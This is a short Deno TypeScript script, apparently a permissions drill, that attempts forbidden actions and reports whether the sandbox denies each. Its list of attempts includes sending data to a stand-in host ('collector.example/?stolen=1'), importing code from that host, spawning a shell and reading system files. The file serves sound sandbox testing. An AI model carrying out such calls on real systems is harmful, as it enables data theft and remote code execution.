/** Tries what a run has no business to do, and prints what came of it; the drill starts it with a run's own permissions. */
import { writeOut } from "../../lib/io/mod.ts";

const ATTEMPTS: Readonly<Record<string, () => unknown>> = {
  "read a file of the user": () => Deno.readTextFileSync("/etc/hostname"),
  "write next to the program": () => Deno.writeTextFileSync("lib/hostile.ts", ""),
  "read a variable": () => Deno.env.get("HOME"),
  "send data to a host": () => fetch("http://collector.example/?stolen=1"),
  "start a program": () => new Deno.Command("sh").spawn(),
  "load code from the network": () => import("https://collector.example/mod.ts" + ""),
  "load a native library": () => Deno.dlopen("libc.so.6", {}),
};

for (const [what, attempt] of Object.entries(ATTEMPTS)) {
  writeOut(`${what}: ${await outcomeOf(attempt)}\n`);
}

async function outcomeOf(attempt: () => unknown): Promise<string> {
  try {
    await attempt();
    return "allowed";
  } catch (error) {
    const isDenied = error instanceof Deno.errors.NotCapable ||
      /NotCapable|Requires \w+ access|deny|not allowed/i.test(String(error));
    return isDenied ? "denied" : `failed otherwise: ${error}`;
  }
}
